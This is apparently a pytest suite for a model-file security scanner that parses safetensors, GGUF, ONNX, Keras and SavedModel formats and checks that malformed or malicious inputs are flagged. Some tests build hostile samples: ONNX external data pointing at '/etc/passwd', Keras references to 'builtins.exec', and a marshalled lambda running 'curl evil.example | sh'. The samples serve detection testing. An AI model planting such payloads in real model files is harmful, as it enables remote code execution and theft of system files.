"""The static format parsers: benign fixtures parse; malformed inputs raise FormatError."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest

from fixtures.generate_formats import (
    keras2_config,
    keras3_config,
    keras_zip,
    onnx_model_bytes,
    pb_bytes,
    pb_int,
    saved_model_pb,
    write_keras_h5,
)
from mlsec.formats import FormatError
from mlsec.formats.gguf import read_gguf
from mlsec.formats.keras import read_keras
from mlsec.formats.onnx import parse_onnx, read_onnx
from mlsec.formats.safetensors import parse_header, read_header
from mlsec.formats.savedmodel import parse_saved_model, read_saved_model
from mlsec.models.sniff import is_keras_zip
from tests.models_formats.helpers import lambda_layer

FORMATS = Path(__file__).resolve().parents[2] / "fixtures" / "formats"


def st_bytes(header: dict[str, object] | bytes, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


# -- safetensors --------------------------------------------------------------------------------
def test_safetensors_fixture() -> None:
    header = read_header(FORMATS / "model.safetensors")
    assert set(header.tensors) == {"embed.weight", "head.bias"}
    assert header.tensors["embed.weight"].dtype == "F32"
    assert header.tensors["embed.weight"].shape == (8, 4)
    assert header.parameter_count == 36
    assert header.metadata == {"format": "pt"}
    assert header.gaps == ()


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"\x01\x00", "too short"),
        (struct.pack("<Q", 1 << 40) + b"{}", "exceeds"),
        (struct.pack("<Q", 100) + b"{}", "past the end"),
        (st_bytes(b"{not json"), "not valid JSON"),
        (st_bytes(b"[1, 2]"), "does not start"),
        (
            st_bytes({"t": {"dtype": "F99", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4),
            "unknown dtype",
        ),
        (
            st_bytes({"t": {"dtype": "F32", "shape": [1], "data_offsets": [0, 8]}}, b"\0" * 4),
            "past the data area",
        ),
        (
            st_bytes({"t": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}}, b"\0" * 4),
            "needs 8 bytes",
        ),
        (
            st_bytes({"t": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}, b"\0" * 4),
            "backwards",
        ),
        (
            st_bytes(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]},
                },
                b"\0" * 8,
            ),
            "overlaps",
        ),
        (st_bytes({"__metadata__": {"k": 1}}), "__metadata__"),
        (
            st_bytes(
                b'{"a": {"dtype": "U8", "shape": [0], "data_offsets": [0, 0]},'
                b' "a": {"dtype": "U8", "shape": [0], "data_offsets": [0, 0]}}'
            ),
            "repeats",
        ),
    ],
)
def test_safetensors_bad_headers(tmp_path: Path, raw: bytes, message: str) -> None:
    path = tmp_path / "bad.safetensors"
    path.write_bytes(raw)
    with pytest.raises(FormatError, match=message):
        read_header(path)


def test_safetensors_gap_is_reported() -> None:
    header = parse_header(
        json.dumps({"t": {"dtype": "U8", "shape": [2], "data_offsets": [2, 4]}}).encode(), 10
    )
    assert header.gaps == ((0, 2), (4, 10))


# -- GGUF ------------------------------------------------------------------------------------------
def test_gguf_fixture() -> None:
    info = read_gguf(FORMATS / "model.gguf")
    assert info.version == 3
    assert info.tensor_count == 1
    assert info.parameter_count == 256
    assert list(info.chat_templates) == ["tokenizer.chat_template"]
    meta = info.metadata_json()
    assert meta["general.name"] == "tiny-demo"
    assert meta["general.architecture"] == "llama"
    assert meta["general.license"] == "apache-2.0"
    tokens = info.metadata["tokenizer.ggml.tokens"]
    assert tokens.count == 64 and len(tokens.head) == 16
    json.dumps(meta)


@pytest.mark.parametrize("cut", [3, 10, 30, 100, 500, 2000])
def test_gguf_truncated(tmp_path: Path, cut: int) -> None:
    data = (FORMATS / "model.gguf").read_bytes()
    info = read_gguf(FORMATS / "model.gguf")
    path = tmp_path / "cut.gguf"
    path.write_bytes(data[:cut])
    if cut < info.header_end:
        with pytest.raises(FormatError):
            read_gguf(path)


def test_gguf_huge_counts(tmp_path: Path) -> None:
    path = tmp_path / "huge.gguf"
    path.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1))
    with pytest.raises(FormatError, match="implausible"):
        read_gguf(path)
    path.write_bytes(
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + struct.pack("<Q", 3)
        + b"k.a"
        + struct.pack("<IIQ", 9, 8, 1 << 40)
    )
    with pytest.raises(FormatError):
        read_gguf(path)


# -- ONNX ------------------------------------------------------------------------------------------
def test_onnx_fixture() -> None:
    info = read_onnx(FORMATS / "model.onnx")
    assert info.ir_version == 8
    assert info.producer_name == "mlsec-fixtures"
    assert info.opset_imports == {"": 17}
    assert info.metadata_props == {"license": "apache-2.0", "author": "mlsec"}
    assert info.operators == {("", "MatMul"): 1, ("", "Relu"): 1}
    assert info.parameter_count == 12
    assert info.custom_domains == set()
    assert info.external_data == []


def test_onnx_external_data_and_custom_domain_in_subgraph() -> None:
    import onnx
    from onnx import TensorProto, helper

    inner_tensor = helper.make_tensor("C", TensorProto.FLOAT, [1], [1.0])
    inner_tensor.ClearField("float_data")
    inner_tensor.data_location = TensorProto.EXTERNAL
    entry = inner_tensor.external_data.add()
    entry.key, entry.value = "location", "/etc/passwd"
    then_graph = helper.make_graph(
        [helper.make_node("Evil", [], ["o"], domain="com.attacker")],
        "then",
        [],
        [helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])],
        [inner_tensor],
    )
    node = helper.make_node("If", ["cond"], ["y"], then_branch=then_graph, else_branch=then_graph)
    graph = helper.make_graph(
        [node],
        "outer",
        [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    info = parse_onnx(model.SerializeToString())
    assert info.custom_domains == {"com.attacker"}
    assert [e.location for e in info.external_data] == ["/etc/passwd", "/etc/passwd"]
    assert onnx  # the package builds the input only


@pytest.mark.parametrize("cut", [1, 5, 20, 60, 150])
def test_onnx_truncated(cut: int) -> None:
    with pytest.raises(FormatError):
        parse_onnx(onnx_model_bytes()[:cut])


def test_onnx_not_a_model() -> None:
    with pytest.raises(FormatError):
        parse_onnx(b"hello world, this is not protobuf")


# -- Keras -----------------------------------------------------------------------------------------
def test_keras_zip_fixture() -> None:
    assert is_keras_zip(FORMATS / "model.keras")
    info = read_keras(FORMATS / "model.keras")
    assert info.format == "keras"
    assert info.class_name == "Sequential"
    assert info.keras_version == "3.6.0"
    assert info.lambdas == [] and info.references == []


def test_keras_h5_fixture() -> None:
    info = read_keras(FORMATS / "model.h5")
    assert info.format == "keras-h5"
    assert info.class_name == "Sequential"
    assert info.keras_version == "2.15.0"
    assert info.lambdas == [] and info.references == []


def test_keras_lambda_and_references(tmp_path: Path) -> None:
    lam = lambda_layer(b"\xe3\x00\x00os\x00system\x00echo hi")
    custom = {
        "module": "evil_pkg.layers",
        "class_name": "Backdoor",
        "registered_name": "Evil>Backdoor",
        "config": {},
    }
    fn = {
        "module": "builtins",
        "class_name": "function",
        "config": "exec",
        "registered_name": "function",
    }
    path = tmp_path / "m.keras"
    path.write_bytes(keras_zip(keras3_config([lam, custom, fn])))
    info = read_keras(path)
    assert [(la.name, la.where) for la in info.lambdas] == [("lam", "config.config.layers[2]")]
    assert "system" in info.lambdas[0].strings and "os" in info.lambdas[0].strings
    assert [(r.module, r.name) for r in info.references] == [
        ("evil_pkg.layers", "Evil>Backdoor"),
        ("builtins", "exec"),
    ]


def test_keras2_h5_lambda(tmp_path: Path) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": ["YWJjb3Nfc3lzdGVt\n", None, None],
            "function_type": "lambda",
        },
    }
    path = tmp_path / "m.h5"
    write_keras_h5(path, keras2_config([lam]))
    info = read_keras(path)
    assert len(info.lambdas) == 1 and info.lambdas[0].code_b64


def test_keras_bad_config(tmp_path: Path) -> None:
    path = tmp_path / "bad.keras"
    import zipfile

    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "{broken")
        archive.writestr("metadata.json", "{}")
    with pytest.raises(FormatError, match="not valid JSON"):
        read_keras(path)


# -- SavedModel ------------------------------------------------------------------------------------
def test_saved_model_fixture() -> None:
    info = read_saved_model(FORMATS / "saved_model" / "saved_model.pb")
    assert info.tags == ["serve"]
    assert info.tensorflow_version == "2.15.0"
    assert {"SaveV2", "RestoreV2", "MatMul", "Relu"} <= set(info.ops)
    assert info.functions == ["__inference_serve_42"]


def test_saved_model_ops_in_functions() -> None:
    info = parse_saved_model(saved_model_pb([("x", "Placeholder")], ["ReadFile", "PyFunc"]))
    assert info.ops["ReadFile"] == "n0" and info.ops["PyFunc"] == "n1"


def test_saved_model_corrupt() -> None:
    with pytest.raises(FormatError):
        parse_saved_model(pb_int(1, 1) + pb_bytes(2, b"\x0a\xff\xff\xff\x0f"))
    with pytest.raises(FormatError):
        parse_saved_model(pb_int(1, 1))


def _gguf_bytes(version: int, order: str, kv: list[tuple[str, str]]) -> bytes:
    n = "I" if version == 1 else "Q"  # version 1 used 32-bit counts and lengths
    out = b"GGUF" + struct.pack(f"{order}I{n}{n}", version, 0, len(kv))
    for key, value in kv:
        k, v = key.encode(), value.encode()
        out += struct.pack(f"{order}{n}", len(k)) + k + struct.pack(f"{order}I{n}", 8, len(v)) + v
    return out


@pytest.mark.parametrize(("version", "order"), [(1, "<"), (2, "<"), (3, "<"), (3, ">")])
def test_gguf_versions_and_byte_order(tmp_path: Path, version: int, order: str) -> None:
    path = tmp_path / "m.gguf"
    path.write_bytes(_gguf_bytes(version, order, [("tokenizer.chat_template.x", "{{ a }}")]))
    info = read_gguf(path)
    assert info.version == version
    assert info.byte_order == ("big" if order == ">" else "little")
    assert info.chat_templates == {"tokenizer.chat_template.x": "{{ a }}"}


def test_gguf_nested_arrays_are_json(tmp_path: Path) -> None:
    key = b"general.tags"
    inner = struct.pack("<IQ", 4, 2) + struct.pack("<II", 7, 8)  # uint32[2]
    value = struct.pack("<IQ", 9, 2) + inner + inner  # array of 2 arrays
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key
    path = tmp_path / "n.gguf"
    path.write_bytes(data + struct.pack("<I", 9) + value)
    meta = read_gguf(path).metadata_json()
    assert json.loads(json.dumps(meta)) == {"general.tags": [[7, 8], [7, 8]]}


def test_lambda_code_strings_from_real_marshal(tmp_path: Path) -> None:
    import base64
    import marshal

    def payload(x: int) -> int:
        return __import__("os").system("curl evil.example | sh") or x

    code = base64.b64encode(marshal.dumps(payload.__code__)).decode()  # never unmarshalled
    lam = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": [code, None, None], "function_type": "lambda"},
    }
    path = tmp_path / "m.keras"
    path.write_bytes(keras_zip(keras3_config([lam])))
    strings = read_keras(path).lambdas[0].strings
    assert {"os", "system", "__import__", "curl evil.example | sh"} <= set(strings)
